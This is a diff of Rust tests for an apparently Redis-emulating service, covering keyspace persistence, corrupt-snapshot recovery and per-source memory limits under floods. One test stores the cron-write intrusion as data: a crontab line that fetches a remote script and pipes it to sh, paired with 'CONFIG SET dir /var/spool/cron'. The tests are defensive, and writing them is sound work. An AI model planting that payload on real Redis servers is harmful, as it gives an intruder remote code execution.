@@ -611,3 +611,288 @@ async fn a_request_sent_a_byte_at_a_time_is_answered() {
     assert_eq!(commands[1], "PING");
     r.mgr.shutdown().await;
 }
+
+/// The node keeps one keyspace per Redis service: what one connection writes, the next
+/// reads, in every database, and it outlives the service (a new manager on the same data
+/// directory), TTLs included, as a real instance's data does.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn keyspace_is_shared_by_connections_and_survives_a_restart() {
+    tools::require(&["redis-cli"]);
+    let dir = tempfile::tempdir().unwrap();
+    let listen: std::net::SocketAddr = "127.0.0.1:0".parse().unwrap();
+    let mut r = start(
+        dir.path(),
+        "redis",
+        listen,
+        redis(false, LoginPolicy::Never),
+    )
+    .await;
+    let set = cli(
+        dir.path(),
+        r.addr,
+        &[],
+        Some("SET backup1 \"*/2 * * * * root cd1 -fsSL http://203.0.113.7/b.sh | sh\"\nSET session abc EX 3600\nSELECT 3\nSET other db3\nCONFIG SET dir /var/spool/cron\n"),
+    )
+    .await;
+    assert_eq!(
+        set.stdout.lines().collect::<Vec<_>>(),
+        ["OK"; 5],
+        "{}",
+        set.stdout
+    );
+    // Another connection (another redis-cli process) sees it.
+    let get = cli(dir.path(), r.addr, &["GET", "backup1"], None).await;
+    assert_eq!(
+        get.stdout.trim(),
+        "*/2 * * * * root cd1 -fsSL http://203.0.113.7/b.sh | sh"
+    );
+    let db3 = cli(dir.path(), r.addr, &["-n", "3", "GET", "other"], None).await;
+    assert_eq!(db3.stdout.trim(), "db3");
+    r.wait_disconnects(3).await;
+    r.mgr.shutdown().await;
+    drop(r);
+    let snapshot = dir.path().join("redis-redis.bin");
+    assert!(snapshot.exists(), "no snapshot written at shutdown");
+
+    // A new manager on the same data directory: the same keyspace.
+    let mut r = start(
+        dir.path(),
+        "redis",
+        listen,
+        redis(false, LoginPolicy::Never),
+    )
+    .await;
+    let out = cli(
+        dir.path(),
+        r.addr,
+        &[],
+        Some("GET backup1\nTTL session\nDBSIZE\nSELECT 3\nGET other\nCONFIG GET dir\n"),
+    )
+    .await;
+    let lines: Vec<&str> = out.stdout.lines().collect();
+    assert_eq!(lines.len(), 7, "{}", out.stdout);
+    assert_eq!(
+        lines[0],
+        "*/2 * * * * root cd1 -fsSL http://203.0.113.7/b.sh | sh"
+    );
+    // The expiry was stored as an absolute time: still counting down, not reset.
+    let ttl: i64 = lines[1].parse().unwrap();
+    assert!((1..=3600).contains(&ttl), "TTL {ttl}");
+    assert_eq!(&lines[2..], ["2", "OK", "db3", "dir", "/var/spool/cron"]);
+    r.wait_disconnects(1).await;
+    r.mgr.shutdown().await;
+}
+
+/// A snapshot that fails its checks (here one flipped byte, then plain garbage) is set
+/// aside as `.corrupt` with a warning in the log, and the service starts empty and serves.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_corrupt_snapshot_is_set_aside_and_the_keyspace_starts_empty() {
+    let dir = tempfile::tempdir().unwrap();
+    let listen: std::net::SocketAddr = "127.0.0.1:0".parse().unwrap();
+    let snapshot = dir.path().join("redis-redis.bin");
+    let aside = dir.path().join("redis-redis.bin.corrupt");
+    let mut r = start(
+        dir.path(),
+        "redis",
+        listen,
+        redis(false, LoginPolicy::Never),
+    )
+    .await;
+    assert_eq!(
+        exchange(r.addr, b"SET k v\r\nQUIT\r\n").await,
+        b"+OK\r\n+OK\r\n"
+    );
+    r.wait_disconnects(1).await;
+    r.mgr.shutdown().await;
+    drop(r);
+    let mut bytes = std::fs::read(&snapshot).unwrap();
+    let mid = bytes.len() / 2;
+    bytes[mid] ^= 0x40;
+    for bad in [bytes, b"HBREDIS1 garbage".repeat(1000)] {
+        std::fs::write(&snapshot, &bad).unwrap();
+        let _ = std::fs::remove_file(&aside);
+        let mut r = start(
+            dir.path(),
+            "redis",
+            listen,
+            redis(false, LoginPolicy::Never),
+        )
+        .await;
+        assert_eq!(std::fs::read(&aside).unwrap(), bad, "set aside as it was");
+        assert!(!snapshot.exists());
+        let out = exchange(
+            r.addr,
+            b"DBSIZE\r\nGET k\r\nSET fresh 1\r\nGET fresh\r\nQUIT\r\n",
+        )
+        .await;
+        assert_eq!(out, b":0\r\n$-1\r\n+OK\r\n$1\r\n1\r\n+OK\r\n");
+        r.wait_disconnects(1).await;
+        r.mgr.shutdown().await;
+        // What was written after the corrupt file is a valid snapshot again.
+        assert!(snapshot.exists());
+    }
+}
+
+/// Reads replies until `n` lines that start a reply (`+`, `-`, `:`, `$`) are in; bounded.
+async fn read_lines(c: &mut TcpStream, n: usize) -> String {
+    let mut got = Vec::new();
+    let mut buf = vec![0u8; 64 * 1024];
+    while got.iter().filter(|&&b| b == b'\n').count() < n {
+        let k = tokio::time::timeout(WAIT, c.read(&mut buf))
+            .await
+            .expect("replies in time")
+            .unwrap();
+        assert!(k > 0, "closed after {:?}", String::from_utf8_lossy(&got));
+        got.extend_from_slice(&buf[..k]);
+    }
+    String::from_utf8_lossy(&got).into_owned()
+}
+
+const OOM: &str = "-OOM command not allowed when used memory > 'maxmemory'.";
+
+/// One source (127.0.0.1) writes until it owns its share of the node's keyspace (1 MiB);
+/// then it is refused with Redis's OOM error and that is recorded, while a second source
+/// (127.0.0.2) still writes, and both still read everything.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn each_source_owns_at_most_its_share_of_the_keyspace() {
+    let dir = tempfile::tempdir().unwrap();
+    let mut r = start(
+        dir.path(),
+        "redis",
+        "127.0.0.1:0".parse().unwrap(),
+        redis(false, LoginPolicy::Never),
+    )
+    .await;
+    let a: std::net::IpAddr = "127.0.0.1".parse().unwrap();
+    let b: std::net::IpAddr = "127.0.0.2".parse().unwrap();
+    // 40 values of 32 KiB: 1.25 MiB, past the 1 MiB share.
+    let value = vec![b'a'; 32 * 1024];
+    let mut attacker = connect_from(a, r.addr).await;
+    let mut flood = Vec::new();
+    for i in 0..40 {
+        flood.extend_from_slice(&multibulk(&[b"SET", format!("a{i}").as_bytes(), &value]));
+    }
+    attacker.write_all(&flood).await.unwrap();
+    let replies = read_lines(&mut attacker, 40).await;
+    let ok = replies.lines().filter(|l| *l == "+OK").count();
+    let refused = replies.lines().filter(|l| *l == OOM).count();
+    assert_eq!(ok + refused, 40, "{replies}");
+    assert!(
+        (28..=32).contains(&ok),
+        "{ok} values of 32 KiB stored for one source"
+    );
+    // Another connection from the same source is refused as well: the share is per source.
+    let mut again = connect_from(a, r.addr).await;
+    again
+        .write_all(&multibulk(&[b"SET", b"more", &value]))
+        .await
+        .unwrap();
+    assert_eq!(read_lines(&mut again, 1).await.trim_end(), OOM);
+    // The other source writes, and reads what the first wrote.
+    let mut other = connect_from(b, r.addr).await;
+    let mut req = multibulk(&[b"SET", b"b0", &value]);
+    req.extend_from_slice(b"GET a0\r\nDBSIZE\r\n");
+    other.write_all(&req).await.unwrap();
+    let got = read_lines(&mut other, 4).await;
+    assert!(
+        got.starts_with("+OK\r\n$32768\r\n"),
+        "{}",
+        &got[..got.len().min(64)]
+    );
+    assert!(
+        got.ends_with(&format!(":{}\r\n", ok + 1)),
+        "{}",
+        &got[got.len() - 16..]
+    );
+    // Deleting its keys gives the first source its room back.
+    attacker.write_all(b"DEL a0 a1\r\n").await.unwrap();
+    assert_eq!(read_lines(&mut attacker, 1).await.trim_end(), ":2");
+    again
+        .write_all(&multibulk(&[b"SET", b"more", &value]))
+        .await
+        .unwrap();
+    assert_eq!(read_lines(&mut again, 1).await.trim_end(), "+OK");
+    drop((attacker, again, other));
+    r.wait_disconnects(3).await;
+    assert!(limits_hit(&r, "redis_keyspace") >= 1);
+    r.mgr.shutdown().await;
+}
+
+/// 32 connections from 8 sources pipeline 64 SETs of 64 KiB each (128 MiB in all, every
+/// key distinct). The node's keyspace holds at most 4 MiB: the rest is refused with OOM,
+/// the test process's memory stays flat, the service keeps serving, and the snapshot on
+/// disk stays bounded.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_flood_of_sets_from_many_connections_keeps_the_keyspace_bounded() {
+    const SOURCES: u8 = 8;
+    const PER_SOURCE: usize = 4;
+    const SETS: usize = 64;
+    let dir = tempfile::tempdir().unwrap();
+    let mut r = start(
+        dir.path(),
+        "redis",
+        "127.0.0.1:0".parse().unwrap(),
+        redis(false, LoginPolicy::Never),
+    )
+    .await;
+    let before = rss_anon();
+    let value = vec![b'f'; 64 * 1024];
+    let mut tasks = Vec::new();
+    for s in 0..SOURCES {
+        for c in 0..PER_SOURCE {
+            let value = value.clone();
+            let addr = r.addr;
+            tasks.push(tokio::spawn(async move {
+                let ip = std::net::IpAddr::from([127, 0, 1, 1 + s]);
+                let mut conn = connect_from(ip, addr).await;
+                let (mut rd, mut wr) = conn.split();
+                let writer = async {
+                    for i in 0..SETS {
+                        let key = format!("{s}-{c}-{i}");
+                        wr.write_all(&multibulk(&[b"SET", key.as_bytes(), &value]))
+                            .await
+                            .unwrap();
+                    }
+                    wr.write_all(b"QUIT\r\n").await.unwrap();
+                };
+                let reader = async {
+                    let mut got = Vec::new();
+                    tokio::time::timeout(WAIT * 2, rd.read_to_end(&mut got))
+                        .await
+                        .expect("replies in time")
+                        .unwrap();
+                    String::from_utf8(got).unwrap()
+                };
+                let ((), got) = tokio::join!(writer, reader);
+                let ok = got.lines().filter(|l| *l == "+OK").count();
+                let refused = got.lines().filter(|l| *l == OOM).count();
+                assert_eq!(ok + refused, SETS + 1, "{got}");
+                ok - 1
+            }));
+        }
+    }
+    let mut stored = 0;
+    for t in tasks {
+        stored += t.await.unwrap();
+    }
+    let grown = rss_anon().saturating_sub(before);
+    // 4 MiB of values at most (64 of 64 KiB), whoever wrote them.
+    assert!(stored <= 64, "{stored} values of 64 KiB stored");
+    assert!(stored >= 32, "only {stored} stored: each source has 1 MiB");
+    assert!(
+        grown < 40 * 1024 * 1024,
+        "private memory grew by {grown} bytes for 128 MiB of SETs"
+    );
+    r.wait_disconnects(SOURCES as usize * PER_SOURCE).await;
+    let out = exchange(r.addr, b"DBSIZE\r\nQUIT\r\n").await;
+    assert_eq!(out, format!(":{stored}\r\n+OK\r\n").as_bytes());
+    assert!(limits_hit(&r, "redis_keyspace") >= 1);
+    r.mgr.shutdown().await;
+    let size = std::fs::metadata(dir.path().join("redis-redis.bin"))
+        .unwrap()
+        .len();
+    assert!(
+        size <= 4 * 1024 * 1024 + 64 * 1024,
+        "snapshot of {size} bytes"
+    );
+}
